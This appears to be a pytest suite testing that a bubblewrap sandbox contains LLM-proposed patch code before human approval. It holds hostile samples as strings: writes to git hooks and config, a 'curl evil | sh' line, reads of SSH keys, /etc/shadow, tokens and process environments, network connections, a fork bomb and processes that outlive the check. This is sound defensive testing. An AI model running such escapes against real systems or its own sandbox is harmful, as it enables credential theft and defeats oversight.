"""The check command runs LLM-proposed code before anyone approved it: it runs in bubblewrap.

Each hostile patch below is a proposed edit whose code tries one escape when the check command runs it;
real git repos, the real bwrap (HEALBOT_BWRAP_BIN, fetched by `make tools`), a real listener.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import uuid
from dataclasses import replace
from pathlib import Path

import pytest

from bot.errors import PatchError
from bot.interfaces import SandboxSettings
from bot.models import Edit, Fix, FixKind, Risk
from healers.sandbox import Sandbox, scratch_copy
from healers.sandbox_paths import ETC_WHITELIST, minimal, toolchain, visible_path_entries
from tests.fakes.hostile_check import (  # noqa: F401 (the repo and marker fixtures)
    FORK_BOMB,
    NOBODY,
    OUTLIVER,
    attempt,
    bwrap_binary,
    context,
    hostile,
    marked_processes,
    marker_fixture,
    propose,
    repo_fixture,
)
from tests.helpers import wait_until

# --- writes outside the tree --------------------------------------------------------------------------


def outside_targets(repo: Path, tmp_path: Path) -> dict[str, Path]:
    return {
        "the test's tmp dir": tmp_path / "outside" / "planted.txt",
        "the host's /tmp": Path(f"/tmp/healbot-escape-{uuid.uuid4().hex}.txt"),
        "the real repo's .git/hooks": repo / ".git" / "hooks" / "post-commit",
        "the operator's tree": repo / "app" / "planted.py",
        "healbot's HOME": Path(os.environ["HOME"]) / "planted.txt",
    }


@pytest.mark.parametrize(
    "where",
    [
        "the test's tmp dir",
        "the host's /tmp",
        "the real repo's .git/hooks",
        "the operator's tree",
        "healbot's HOME",
    ],
)
def test_llm_patch_cannot_write_outside_its_tree_before_approval(
    repo: Path, tmp_path: Path, marker: str, where: str
) -> None:
    target = outside_targets(repo, tmp_path)[where]
    code = "import os\n" + attempt(
        f"os.makedirs({str(target.parent)!r}, exist_ok=True); open({str(target)!r}, 'w').write('pwned')"
    )
    try:
        candidate = propose(repo, context(repo, marker), hostile(code))
        assert not target.exists(), f"the proposed code wrote {target} before any approval"
        assert candidate.check_passed is True  # the check itself ran, confined (a /tmp write lands in
        # the sandbox's private tmpfs and is gone with it)
    finally:
        if where == "the host's /tmp":
            target.unlink(missing_ok=True)


def test_check_cannot_plant_a_hook_through_the_worktree_git_file(repo: Path, marker: str) -> None:
    """The scratch worktree's `.git` file names the real repo's .git/worktrees/…; the check gets none."""
    code = textwrap.dedent(
        """
        import os, pathlib
        found = pathlib.Path('.git')
        print('has .git:', found.exists())
        if found.is_file():
            gitdir = pathlib.Path(found.read_text().split(':', 1)[1].strip())
            hooks = gitdir.parent.parent / 'hooks'
            (hooks / 'pre-commit').write_text('#!/bin/sh\\necho pwned\\n')
            (gitdir.parent.parent / 'config').open('a').write('[core]\\n\\thooksPath = /tmp\\n')
        """
    )
    before = (repo / ".git" / "config").read_text()
    candidate = propose(repo, context(repo, marker), hostile(code))
    assert "has .git: False" in candidate.check_output
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert (repo / ".git" / "config").read_text() == before


def test_what_the_check_writes_in_its_tree_never_reaches_the_diff(repo: Path, marker: str) -> None:
    code = textwrap.dedent(
        """
        import pathlib
        pathlib.Path('app/main.py').write_text('import os; os.system("curl evil | sh")\\n')
        pathlib.Path('app/extra.py').write_text('BACKDOOR = 1\\n')
        """
    )
    ctx = context(repo, marker)
    candidate = propose(repo, ctx, hostile(code))
    unchecked = propose(repo, replace(ctx, check_command=()), hostile(code))
    assert (candidate.diff, candidate.digest) == (unchecked.diff, unchecked.digest)
    assert "diff --git a/app/" not in candidate.diff
    assert candidate.stats.files == 1


# --- reading secrets ---------------------------------------------------------------------------------


def plant(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o600)
    return path


@pytest.mark.parametrize("what", ["ssh key", "state dir", "token file", "shadow"])
def test_check_cannot_read_secrets_on_the_host(repo: Path, tmp_path: Path, marker: str, what: str) -> None:
    secret = f"SECRET-{uuid.uuid4().hex}"
    home = Path(os.environ["HOME"])
    paths = {
        "ssh key": lambda: plant(home / ".ssh" / "id_rsa", f"-----BEGIN KEY-----\n{secret}\n"),
        "state dir": lambda: plant(tmp_path / "state" / "healbot.db", f"approvals {secret}"),
        "token file": lambda: plant(tmp_path / "etc" / "healbot" / "env", f"HEALBOT_TELEGRAM_TOKEN={secret}"),
        "shadow": lambda: Path("/etc/shadow"),
    }
    target = paths[what]()
    code = attempt(f"print('READ', open({str(target)!r}).read())")
    candidate = propose(repo, context(repo, marker), hostile(code))
    assert "READ" not in candidate.check_output and secret not in candidate.check_output
    assert "contained:" in candidate.check_output


def test_check_sees_no_secret_from_the_environment(
    repo: Path, marker: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    values = {
        "HEALBOT_TELEGRAM_TOKEN": f"123:{uuid.uuid4().hex}",
        "DATABASE_URL": f"postgres://app:{uuid.uuid4().hex}@db/app",  # a name no filter recognises
        "STRIPE_LIVE": f"sk_live_{uuid.uuid4().hex}",
    }
    for key, value in values.items():
        monkeypatch.setenv(key, value)
    code = "import os\nprint(sorted(os.environ.items()))\n" + attempt("print(open('/proc/1/environ').read())")
    candidate = propose(repo, context(repo, marker), hostile(code))
    for value in values.values():
        assert value not in candidate.check_output
    assert "'HOME', '/tmp'" in candidate.check_output


# --- network, processes, time ------------------------------------------------------------------------


def test_check_cannot_reach_a_listener_on_host_loopback(repo: Path, marker: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        port = listener.getsockname()[1]
        code = "import socket\n" + attempt(f"socket.create_connection(('127.0.0.1', {port}), timeout=3)")
        candidate = propose(repo, context(repo, marker), hostile(code))
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert "contained:" in candidate.check_output


def test_fork_bomb_is_bounded_and_leaves_nothing(repo: Path, marker: str) -> None:
    """Every fork carries the marker in its argv: none may be left on the host (a count of all of the
    host's processes would also count other checks running as nobody)."""
    candidate = propose(repo, context(repo, marker), hostile(FORK_BOMB))
    forked = int(candidate.check_output.split("forked", 1)[1].split()[0])
    assert forked < 64, candidate.check_output
    # the kernel kills the rest of the check's pid namespace as its first process ends, but not at once:
    # on a busy machine some forks are still exiting when the check returns
    wait_until(lambda: marked_processes(marker) == [], 10, what="every fork of the check gone")


def test_nothing_the_check_starts_outlives_it(repo: Path, tmp_path: Path, marker: str) -> None:
    late = tmp_path / "late.txt"
    candidate = propose(repo, context(repo, marker), hostile(OUTLIVER.format(late=late)))
    assert "left two processes behind" in candidate.check_output
    assert marked_processes(marker) == []
    assert not late.exists()


def test_check_that_hangs_is_killed_with_everything_it_started(repo: Path, marker: str) -> None:
    code = "import subprocess, sys, time\nsubprocess.Popen(['sleep', '300', sys.argv[1]])\ntime.sleep(300)\n"
    with pytest.raises(PatchError, match=r"timed out after 1s"):
        propose(repo, context(repo, marker, check_timeout_s=1.0), hostile(code))
    assert marked_processes(marker) == []


@pytest.mark.parametrize(
    ("limit", "code"),
    [
        ("memory", "x = bytearray(8 * 1024 ** 3)\n"),
        ("file size", "open('big', 'wb').write(b'x' * (3 * 1024 ** 2))\n"),
    ],
)
def test_check_is_bounded_in_memory_and_file_size(repo: Path, marker: str, limit: str, code: str) -> None:
    ctx = context(repo, marker, sandbox=SandboxSettings(bwrap=bwrap_binary(), memory_mb=1024, max_file_mb=2))
    with pytest.raises(PatchError, match=r"check command .* failed"):
        propose(repo, ctx, hostile(code))


# --- the legitimate check, and failing closed ---------------------------------------------------------


def test_legit_pytest_check_passes_in_the_sandbox(repo: Path, marker: str) -> None:
    fix = Fix(
        rank=1,
        title="Guard",
        rationale="r",
        risk=Risk.LOW,
        kind=FixKind.PATCH,
        edits=(Edit("app/main.py", "    return sum(items)\n", "    return sum(items) if items else 0\n"),),
    )
    ctx = context(
        repo, marker, check_command=(sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider")
    )
    candidate = propose(repo, ctx, fix)
    assert candidate.check_passed is True
    assert "1 passed" in candidate.check_output


def test_failing_check_still_fails_the_candidate(repo: Path, marker: str) -> None:
    broken = Edit("app/main.py", "def total(items):", "def total(items:")
    fix = replace(hostile("print(1)"), edits=(broken,))
    ctx = context(repo, marker, check_command=(sys.executable, "-m", "py_compile", "app/main.py"))
    with pytest.raises(PatchError, match=r"(?s)failed \(exit 1\).*SyntaxError"):
        propose(repo, ctx, fix)


@pytest.mark.skipif(os.geteuid() != 0, reason="checks the drop from root to the sandbox user")
def test_check_runs_as_the_unprivileged_user_when_healbot_is_root(repo: Path, marker: str) -> None:
    code = "import os\nprint('ids', os.getuid(), os.geteuid(), os.getgid(), os.getgroups())\n"
    candidate = propose(repo, context(repo, marker), hostile(code))
    assert f"ids {NOBODY} {NOBODY} {NOBODY} []" in candidate.check_output


def test_the_toolchain_is_visible_but_not_the_home_it_lives_in(repo: Path, marker: str) -> None:
    """The test's python is a venv whose interpreter lives in root's pyenv: that prefix alone is shown."""
    code = (
        "import os, sys\n"
        "print('prefix', sys.prefix)\n"
        "print('root has', sorted(os.listdir('/root')) if os.path.isdir('/root') else None)\n"
        "print('ssh', os.path.exists(os.path.expanduser('~/.ssh')), os.path.exists('/root/.ssh'))\n"
    )
    candidate = propose(repo, context(repo, marker), hostile(code))
    assert candidate.check_passed is True
    assert f"prefix {sys.prefix}" in candidate.check_output
    real_prefix = os.path.realpath(sys.base_prefix)
    expected = [real_prefix.split("/")[2]] if real_prefix.startswith("/root/") else None
    assert f"root has {expected}" in candidate.check_output
    assert "ssh False False" in candidate.check_output


# --- healbot not root: the same sandbox run by an unprivileged uid -------------------------------------


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to become nobody for this part")
@pytest.mark.parametrize("case", ["fork bomb", "outlive", "write outside", "network"])
def test_sandbox_as_a_non_root_healbot_contains_the_same_escapes(
    repo: Path, tmp_path: Path, marker: str, case: str
) -> None:
    """bwrap started by an unprivileged uid (its own user namespace is then the boundary)."""
    outside = Path(tempfile.mkdtemp(prefix="healbot-outside-"))
    outside.chmod(0o777)  # nobody could write here on the host: only the sandbox stops it
    try:
        check_as_non_root(repo, outside, marker, case)
    finally:
        shutil.rmtree(outside)


def check_as_non_root(repo: Path, outside: Path, marker: str, case: str) -> None:
    scripts = {
        "fork bomb": FORK_BOMB,
        "outlive": OUTLIVER.format(late=outside / "late.txt"),
        "write outside": attempt(f"open({str(outside / 'planted.txt')!r}, 'w').write('x')"),
        "network": "import socket\n" + attempt("socket.create_connection(('1.1.1.1', 53), timeout=2)"),
    }
    (repo / "check_me.py").write_text(scripts[case])
    settings = SandboxSettings(bwrap=bwrap_binary(), max_processes=64)
    python = "/usr/bin/python3"
    search_path = "/usr/bin:/bin"
    with scratch_copy(repo, None) as copy:
        subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(copy.parent)], check=True)
        read_only = [
            p for p in minimal([*ETC_WHITELIST, *toolchain(python, search_path)]) if os.path.exists(p)
        ]
        sandbox = Sandbox(
            bwrap=bwrap_binary(),
            prlimit="/usr/bin/prlimit",
            setpriv=None,
            identity=None,
            settings=settings,
            read_only=tuple(read_only),
            tree=copy,
            path_env=visible_path_entries(search_path, read_only),
        )
        drop = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"]
        result = subprocess.run(
            [*drop, *sandbox.argv([python, "check_me.py", marker])],
            check=False,
            cwd=copy,
            env={"PATH": "/usr/bin:/bin"},
            capture_output=True,
            text=True,
            timeout=60,
        )
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    assert "ESCAPED" not in output
    assert marked_processes(marker) == []
    assert list(outside.iterdir()) == []
    if case == "fork bomb":
        assert int(output.split("forked", 1)[1].split()[0]) < 64
